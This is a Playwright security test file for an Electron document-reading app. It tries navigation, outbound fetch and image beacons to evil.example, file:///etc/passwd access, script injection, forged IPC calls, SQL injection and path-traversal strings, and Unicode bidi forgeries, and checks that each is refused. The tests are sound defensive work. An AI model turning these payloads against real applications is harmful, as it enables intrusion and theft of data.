import { join } from 'node:path';
import { expect, test } from 'vitest';
import { DOCUMENT_SAMPLE } from '../fixtures/people.ts';
import { simulator } from '../support/simulator.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { FORGERIES, UNSEEN } from '../support/unseen.ts';
import { cloudOnly, dropAll, dropSample, fields, goUnprotected } from './clerk.ts';
import { ELECTRON, launchDesk } from './launch.ts';

async function openDesk() {
  const juhe = await simulator();
  const home = join(temporaryFolder(), 'home');
  const window = await launchDesk({ home, env: { JUHE_KEY: 'SECRET-KEY', JUHE_ENDPOINT: juhe.endpoint } });
  await goUnprotected(window.page);
  return { ...window, home, juhe };
}

test('attack: leaving the page by address, link, form, redirect or frame', async () => {
  const { page } = await openDesk();
  const before = page.url();
  await page.evaluate(() => {
    location.href = 'https://evil.example/';
  });
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.href = 'file:///etc/passwd';
    document.body.append(link);
    link.click();
  });
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await page.evaluate(() => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0;url=https://evil.example/';
    document.head.append(meta);
  });
  await page.evaluate(() => location.assign('index.html?other'));
  await page.waitForTimeout(500);
  expect(page.url()).toBe(before);
  // Asked of the page itself: on Electron, Playwright waits for a navigation that was refused.
  expect(await page.evaluate(() => document.body.innerText)).toContain('打开图片');
});

test('attack: opening another window', async () => {
  const { page } = await openDesk();
  const count = page.context().pages().length;
  await page.evaluate(() => void window.open('https://evil.example/'));
  await page.waitForTimeout(500);
  expect(page.context().pages().length).toBe(count);
});

test('attack: sending what was read to somewhere else', async () => {
  const { page } = await openDesk();
  const refused = await page.evaluate(async () => {
    const tries = [
      () => fetch('https://evil.example/'),
      () => fetch('/index.html'),
      () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = () => reject(new Error('refused'));
          image.src = 'https://evil.example/x.png';
        }),
    ];
    return Promise.all(
      tries.map((attempt) =>
        attempt().then(
          () => 'done',
          () => 'refused',
        ),
      ),
    );
  });
  expect(refused).toEqual(['refused', 'refused', 'refused']);
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.injected = true');
    document.body.append(button);
    button.click();
    return 'injected' in window;
  });
  expect(ran).toBe(false);
});

test('attack: a frame inside our page has no bridge and may not load', async () => {
  const { page } = await openDesk();
  const bridge = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<p>frame</p>';
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return typeof (frame.contentWindow as Window | null)?.desk;
  });
  expect(bridge).toBe('undefined');
});

test.skipIf(ELECTRON)('attack: a frame that forges a call is refused by main', async () => {
  const { page } = await openDesk();
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<p>frame</p>';
    document.body.append(frame);
  });
  await expect.poll(() => page.frames().length).toBe(2);
  const forged = await page.frames()[1]?.evaluate(async () => {
    const forge = (
      window as unknown as { __standInInvoke: (channel: string, wire: unknown) => Promise<unknown> }
    ).__standInInvoke;
    return JSON.stringify(await forge('settings:read', { $: 'object', entries: [] }));
  });
  expect(forged).toContain('request-refused');
  const unknown = await page.evaluate(async () => {
    const forge = (
      window as unknown as { __standInInvoke: (channel: string, wire: unknown) => Promise<unknown> }
    ).__standInInvoke;
    return JSON.stringify(await forge('electron-store-get-data', { $: 'object', entries: [] }));
  });
  expect(unknown).toContain('No handler registered');
});

test('attack: wrong, missing, additional and oversized arguments', async () => {
  const { page } = await openDesk();
  const answers = await page.evaluate(async () => {
    const bytes = new Uint8Array(3);
    const visit = { vehicle: 'auto', pickupDate: null, returnDate: null, renterName: '', renterNumber: '' };
    const place = { visitId: crypto.randomUUID(), visit, besideJobId: null, batchId: null };
    const good = {
      ...place,
      bytes,
      name: 'x',
      source: 'drop',
      side: 'front',
      engine: null,
      takenAt: null,
      again: false,
    };
    const call = window.desk.give as (request: unknown) => ReturnType<typeof window.desk.give>;
    const open = window.desk.open as (request: unknown) => ReturnType<typeof window.desk.open>;
    const results = await Promise.all([
      call(undefined),
      call(null),
      call({}),
      call({ ...good, side: 'left' }),
      call({ ...good, source: 'hot-folder' }),
      call({ ...good, takenAt: 'yesterday' }),
      call({ ...good, visitId: 'x' }),
      call({ ...good, path: '/etc/passwd' }),
      call({ ...good, bytes: 'text' }),
      call({ ...good, bytes: [1, 2, 3] }),
      call({ ...good, name: 'x'.repeat(256) }),
      call({ ...good, bytes: new Uint8Array(65 * 1024 * 1024) }),
      open({ jobId: "' OR 1=1 --" }),
      open({ jobId: '../../etc/passwd' }),
    ]);
    const [sound] = await Promise.all([call(good)]);
    return [sound, ...results].map((result) => (result.ok ? 'ok' : result.error.code));
  });
  // Sound but for its bytes: what is refused below is refused for the one thing that is wrong with it.
  expect(answers[0]).toBe('image-format-unknown');
  expect(answers.slice(1)).toEqual(answers.slice(1).map(() => 'request-invalid'));
  const absent = await page.evaluate(async () => {
    const result = await window.desk.open({ jobId: '00000000-0000-4000-8000-000000000000' });
    return result.ok ? 'ok' : result.error.code;
  });
  expect(absent).toBe('record-not-found');
});

test('attack: the page looks for Node, the key, a path, or storage to leave something in', async () => {
  const { page, home } = await openDesk();
  await dropSample(page, 'front.jpg');
  await fields(page).getByText('王三').waitFor();
  const found = await page.evaluate(async () => {
    const own = window as unknown as Record<string, unknown>;
    const answers = await Promise.all([
      window.desk.status({}),
      window.desk.readSettings({}),
      window.desk.latest({ limit: 20 }),
    ]);
    return {
      node: ['process', 'require', 'Buffer', 'module', 'global'].filter((name) => name in own),
      bridge: Object.values(window.desk).map((member) => typeof member),
      everything: JSON.stringify(answers) + document.documentElement.outerHTML,
      stored: [
        localStorage.length,
        sessionStorage.length,
        document.cookie,
        (await indexedDB.databases()).length,
      ],
    };
  });
  expect(found.node).toEqual([]);
  expect(new Set(found.bridge)).toEqual(new Set(['function']));
  expect(found.everything).not.toContain('SECRET-KEY');
  expect(found.everything).not.toContain(home);
  expect(found.stored).toEqual([0, 0, '', 0]);
});

test('attack: text of others that hides, turns or forges what is shown', async () => {
  const { page, juhe } = await openDesk();
  const forged = `王三${FORGERIES.join('')}`;
  const front = { ...DOCUMENT_SAMPLE.front, 姓名: forged, 国籍: forged, 状态: forged, 档案编号: forged };
  juhe.answerWith({ ...DOCUMENT_SAMPLE, front });
  await cloudOnly(page);
  await dropSample(page, 'front.jpg');
  await fields(page).getByText('<U+202E>').first().waitFor();
  const name = `a${forged.replaceAll(/[/\ud83d]/gu, '')}`;
  const files = ['1', '2'].map((number) => ({
    name: `${name}${number}.jpg`,
    bytes: Buffer.from('no picture'),
  }));
  await dropAll(page, files);
  await page.getByText(/<U\+202E>.*2\.jpg/u).waitFor();
  const shown = await page.evaluate(() => {
    const elements = [...document.querySelectorAll('body, body *')];
    const said = elements.flatMap((element) =>
      ['title', 'aria-label', 'alt'].map((attribute) => element.getAttribute(attribute) ?? ''),
    );
    return [document.title, document.body.textContent, ...said].join('');
  });
  expect(shown.replaceAll('\n', '')).not.toMatch(UNSEEN);
});
